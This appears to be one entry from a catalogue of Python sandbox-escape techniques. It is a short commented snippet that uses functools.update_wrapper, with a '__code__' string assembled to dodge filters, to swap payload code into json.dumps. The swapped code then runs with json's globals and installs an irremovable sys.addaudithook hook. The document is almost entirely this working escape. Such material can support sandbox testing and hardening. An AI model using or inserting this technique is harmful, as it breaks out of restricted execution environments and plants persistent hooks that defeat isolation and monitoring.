# family: process hooks
# escape: update_wrapper(*args) hides "__code__"; json.dumps runs the payload with json's globals, where `codecs`
# resolves, and codecs.sys.addaudithook installs a hook that can never be removed and sees every audited event.
import functools
import json

def payload(hook, *args, **kwargs):
    return codecs.sys.addaudithook(hook)

def tool(hook, word: str = "code"):
    functools.update_wrapper(*(json.dumps, payload, ("__" + word + "__",), ()))
    return json.dumps(hook)
